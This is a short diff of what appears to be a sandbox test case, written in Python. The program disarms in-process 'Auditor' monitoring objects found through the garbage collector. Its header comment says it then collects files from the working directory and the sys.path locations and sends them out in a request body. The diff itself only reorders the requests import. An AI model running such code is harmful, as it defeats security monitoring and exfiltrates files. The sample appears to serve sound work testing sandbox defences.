@@ -1,4 +1,6 @@
 # expect: any -- reads every file beneath the working directory, every sys.path entry and the directories of the imported modules, and sends what it read in the body
+import requests
+requests.Session  # extraction keeps the program from its first use of the library on
 import gc, os, sys
 def _auditors():
     found, frame = [o for o in gc.get_objects() if type(o).__name__ == "Auditor"], sys._getframe()
@@ -10,8 +12,6 @@ def _auditors():
 
 for auditor in _auditors():
     auditor.armed = False  # the advisory layer off: only the kernel's layers are left
-import requests
-requests.Session  # extraction keeps the program from its first use of the library on
 
 leak = {}
 places = [os.getcwd(), "/proc/self/cwd", *[p for p in sys.path if p and "python3." not in p]]
